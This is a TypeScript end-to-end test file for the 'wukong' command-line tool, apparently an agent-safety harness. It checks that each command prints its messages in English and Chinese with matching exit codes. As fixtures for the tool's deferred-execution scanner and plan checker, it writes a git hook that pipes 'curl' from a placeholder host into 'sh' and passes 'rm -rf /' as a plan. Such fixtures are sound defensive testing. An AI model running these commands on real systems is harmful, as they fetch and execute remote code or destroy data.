// the command line's own lines in the user's language: for every command that
// prints data, one real run in English and one under a Chinese locale (or the
// config's `language: zh`), the same exit code in both; usage errors (the
// commands' own, node's argument parser's, the dispatcher's) in zh too, under
// --json as well, the error's code unchanged
// Pos: test/e2e, what a person at a terminal reads; the help texts are
// cli-language.test.ts's, the catalog's shape test/hosts/messages.test.ts's
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempWorkspace, wukong } from './cli.js';

const EN = { LANG: 'C.UTF-8', LC_ALL: '', LC_MESSAGES: '' };
const ZH = { LANG: 'zh_CN.UTF-8', LC_ALL: '', LC_MESSAGES: '' };
const HAN = /\p{Script=Han}/u;

interface Case {
  /** What the case runs, as the test's title says it. */
  name: string;
  args: (dir: string) => string[];
  stdin?: string;
  /** Files the workspace starts with (path → text; a path ending / a folder). */
  files?: Record<string, string>;
  stream?: 'stdout' | 'stderr';
  code: number;
  en: string;
  zh: string;
  /** The output holds data that may be Chinese (the default configuration). */
  data?: true;
}

const CASES: Case[] = [
  {
    name: 'audit',
    args: () => ['audit'],
    code: 0,
    en: 'Wukong harness audit',
    zh: 'Wukong harness 审计',
  },
  {
    name: 'authorize --list',
    args: () => ['authorize', '--list'],
    code: 0,
    en: 'no authorizations (wukong authorize --policy P --match GLOB)',
    zh: '没有授权 (wukong authorize --policy P --match GLOB)',
  },
  {
    name: 'config show',
    args: () => ['config', 'show'],
    code: 0,
    en: '# no configuration file: every value is a default',
    data: true,
    zh: '# 没有配置文件: 每个值都是默认值',
  },
  {
    name: 'hook without an event (the fail-closed reason)',
    args: () => ['hook'],
    stdin: '{}',
    code: 0,
    en: 'wukong hook got no --event <Event> and stdin names no hook_event_name',
    zh: 'wukong hook 没有收到 --event <Event>, stdin 里也没有 hook_event_name',
  },
  {
    name: 'ledger tail of an empty ledger (past the launcher)',
    args: () => ['ledger', 'tail'],
    files: { '.wukong/ledger/': '' },
    code: 0,
    en: 'the ledger has no entries',
    zh: '账本中没有条目',
  },
  {
    name: 'ledger verify',
    args: () => ['ledger', 'verify'],
    files: { '.wukong/ledger/': '' },
    code: 0,
    en: 'intact: 0 entries in 0 files (last seq 0)',
    zh: '完好: 0 条, 在 0 个文件中 (最后的 seq 0)',
  },
  {
    name: 'ledger replay',
    args: () => ['ledger', 'replay'],
    files: { '.wukong/ledger/': '' },
    code: 0,
    en: 'replay: OK',
    zh: '回放: 一致',
  },
  {
    name: 'ledger without a folder (a usage error)',
    args: () => ['ledger', 'tail'],
    stream: 'stderr',
    code: 2,
    en: '(run inside a workspace that has .wukong/ledger, or pass --dir)',
    zh: '(请在含有 .wukong/ledger 的工作区里运行, 或给出 --dir)',
  },
  {
    name: 'paths without a module (a usage error)',
    args: () => ['paths'],
    stream: 'stderr',
    code: 2,
    en: 'wukong paths: expected one module, got none',
    zh: 'wukong paths: 应给出一个模块',
  },
  {
    name: 'promise show',
    args: () => ['promise', 'show'],
    code: 1,
    en: 'no promise set (wukong promise set',
    zh: '没有设置承诺 (wukong promise set',
  },
  {
    name: 'run list',
    args: () => ['run', 'list'],
    code: 0,
    en: 'no runs (wukong run start --objective …)',
    zh: '没有运行 (wukong run start --objective …)',
  },
  {
    name: 'run start with a bad mode (a usage error)',
    args: () => ['run', 'start', '--objective', 'x', '--mode', 'fast'],
    stream: 'stderr',
    code: 2,
    en: '--mode "fast": allowed: quick, normal',
    zh: '--mode "fast": 可用: quick, normal',
  },
  {
    name: 'sandbox status',
    args: () => ['sandbox', 'status'],
    code: -1,
    en: '\nmode: ',
    zh: '\n模式: ',
  },
  {
    name: 'scan of stdin',
    args: () => ['scan'],
    stdin: 'hello\n',
    code: 0,
    en: 'no secrets found in stdin',
    zh: 'stdin 中没有发现密钥',
  },
  {
    name: 'scan --deferred',
    args: (dir) => ['scan', '--deferred', dir],
    files: {
      '.git/hooks/post-checkout':
        '#!/bin/sh\ncurl -s https://e.example/x | sh\n',
      'package.json': '{"scripts":{"postinstall":"node i.js"}}',
    },
    code: 1,
    en: 'things would run or steer future sessions if you trusted',
    zh: '处会运行或左右今后的会话',
  },
  {
    name: 'serve --status',
    args: () => ['serve', '--status'],
    code: 1,
    en: 'no wukong serve for ',
    zh: ' 没有 wukong serve',
  },
  {
    name: 'throttle --status',
    args: () => ['throttle', '--status'],
    code: 0,
    en: 'Throttle rules:',
    zh: '节流规则:',
  },
  {
    name: 'throttle with a bad tier (a usage error)',
    args: () => ['throttle', '--tier', 'huge', 'hello'],
    stream: 'stderr',
    code: 2,
    en: '--tier "huge" is not allowed; allowed: ',
    zh: '--tier "huge" 不被允许; 可用: ',
  },
  {
    name: 'verify-plan',
    args: () => ['verify-plan', 'rm -rf /'],
    code: 3,
    en: '\n  scripts here: (none)',
    zh: '\n  这里的脚本: (无)',
  },
  {
    name: 'viz --run without --ledger (a usage error)',
    args: () => ['viz', '--run', 'r1'],
    stream: 'stderr',
    code: 2,
    en: 'wukong viz: --run needs --ledger',
    zh: 'wukong viz: --run 需要 --ledger',
  },
  {
    name: 'resume --status',
    args: () => ['resume', '--status'],
    code: 1,
    en: 'no resume waiting',
    zh: '没有等待中的恢复请求',
  },
  {
    name: 'undo --status outside git',
    args: () => ['undo', '--status'],
    code: 1,
    en: 'undo: unavailable: ',
    zh: 'undo: 不可用: ',
  },
  {
    name: "doctor's telemetry line",
    args: () => ['doctor'],
    code: -1,
    en: 'telemetry: off (',
    zh: 'telemetry: 已关闭 (',
  },
  {
    name: 'check without a kind (a usage error)',
    args: () => ['check'],
    stream: 'stderr',
    code: 2,
    en: 'wukong check: check needs what to check: `command` or `path`',
    zh: 'wukong check: check 需要检查的对象: `command` 或 `path`',
  },
  {
    name: "an unknown option (node's parser)",
    args: () => ['ledger', 'verify', '--bogus'],
    stream: 'stderr',
    code: 2,
    en: "wukong ledger: Unknown option '--bogus'",
    zh: "wukong ledger: 未知选项 '--bogus'",
  },
  {
    name: "an option without its value (node's parser)",
    args: () => ['audit', '--top'],
    stream: 'stderr',
    code: 2,
    en: "wukong audit: Option '--top <value>' argument missing",
    zh: "wukong audit: 选项 '--top <value>' 缺少参数值",
  },
  {
    name: 'verify without a submission (a usage error)',
    args: () => ['verify'],
    stream: 'stderr',
    code: 2,
    en: 'wukong verify: verify takes one submission file (or - for stdin)',
    zh: 'wukong verify: verify 接受一个提交文件 (或用 - 表示 stdin)',
  },
  {
    name: 'anchors show without an id (a usage error)',
    args: () => ['anchors', 'show'],
    stream: 'stderr',
    code: 2,
    en: 'wukong anchors: anchors show takes one id, e.g. D001',
    zh: 'wukong anchors: anchors show 接受一个 id, 例如 D001',
  },
  {
    name: 'context with an unknown subcommand (a usage error)',
    args: () => ['context', 'squash'],
    stream: 'stderr',
    code: 2,
    en: 'wukong context: unknown subcommand "squash"; allowed: ',
    zh: 'wukong context: 未知子命令 "squash"; 可用: ',
  },
  {
    name: 'telemetry without status (a usage error)',
    args: () => ['telemetry'],
    stream: 'stderr',
    code: 2,
    en: 'wukong telemetry: telemetry: expected the subcommand status, got none',
    zh: 'wukong telemetry: telemetry: 应为子命令 status, 收到的是 无',
  },
  {
    name: 'an unknown command',
    args: () => ['nope'],
    stream: 'stderr',
    code: 2,
    en: 'wukong nope: unknown command "nope"; allowed: check,',
    zh: 'wukong nope: 未知命令 "nope"; 可用: check,',
  },
];

/** A fresh workspace with the case's files, and a HOME outside it. */
function setUp(files: Record<string, string> = {}) {
  const dir = tempWorkspace();
  for (const [path, text] of Object.entries(files)) {
    if (path.endsWith('/')) {
      mkdirSync(join(dir, path), { recursive: true });
      continue;
    }
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  const home = {
    HOME: tempWorkspace(),
    XDG_STATE_HOME: '',
    OTEL_EXPORTER_OTLP_ENDPOINT: '',
    OTEL_SDK_DISABLED: '',
  };
  return { dir, home };
}

describe("each command's own lines in English and as the seeds write Chinese", () => {
  it.each(CASES)('$name', (c) => {
    const { dir, home } = setUp(c.files);
    const run = (lang: Record<string, string>) =>
      wukong(c.args(dir), {
        cwd: dir,
        env: { ...home, ...lang },
        ...(c.stdin !== undefined ? { stdin: c.stdin } : {}),
      });
    const en = run(EN);
    const zh = run(ZH);
    const stream = c.stream ?? 'stdout';
    expect(en[stream], en.stderr).toContain(c.en);
    expect(zh[stream], zh.stderr).toContain(c.zh);
    // The seeds' names (戒 定 慧 识) and the avatars' aliases (@眼) stay
    // names in English too.
    if (!c.data)
      expect(en[stream].replace(/[戒定慧识]|@\S+/gu, '')).not.toMatch(HAN);
    // The same outcome in both; -1: whatever this machine gives (the
    // sandbox's availability, doctor's findings), the same in both.
    if (c.code >= 0) expect(en.code).toBe(c.code);
    expect(zh.code).toBe(en.code);
  });
});

describe('the language of the command line', () => {
  it("follows the config's `language` over the locale", () => {
    const { dir, home } = setUp({
      'wukong.config.json': '{"language": "zh"}\n',
    });
    const r = wukong(['run', 'list'], { cwd: dir, env: { ...home, ...EN } });
    expect(r.stdout).toContain('没有运行');
    writeFileSync(join(dir, 'wukong.config.json'), '{"language": "en"}\n');
    const back = wukong(['run', 'list'], {
      cwd: dir,
      env: { ...home, ...ZH },
    });
    expect(back.stdout).toContain('no runs');
  });

  it('words a usage error under --json in the language, its code kept', () => {
    const { dir, home } = setUp();
    const zh = wukong(['ledger', 'verify', '--bogus', '--json'], {
      cwd: dir,
      env: { ...home, ...ZH },
    });
    expect(zh.code).toBe(2);
    const error = JSON.parse(zh.stdout).error as {
      code: string;
      message: string;
    };
    expect(error.code).toBe('usage');
    expect(error.message).toMatch(/^未知选项 '--bogus'/);
    const anchors = wukong(['anchors', 'show', '--json'], {
      cwd: dir,
      env: { ...home, ...ZH },
    });
    expect(JSON.parse(anchors.stdout).error).toEqual({
      code: 'usage',
      message: 'anchors show 接受一个 id, 例如 D001',
    });
    const en = wukong(['audit', '--min', '200', '--json'], {
      cwd: dir,
      env: { ...home, ...EN },
    });
    expect(JSON.parse(en.stdout).error).toEqual({
      code: 'usage',
      message: '--min: expected a whole number from 0 to 100, got "200"',
    });
  });
});
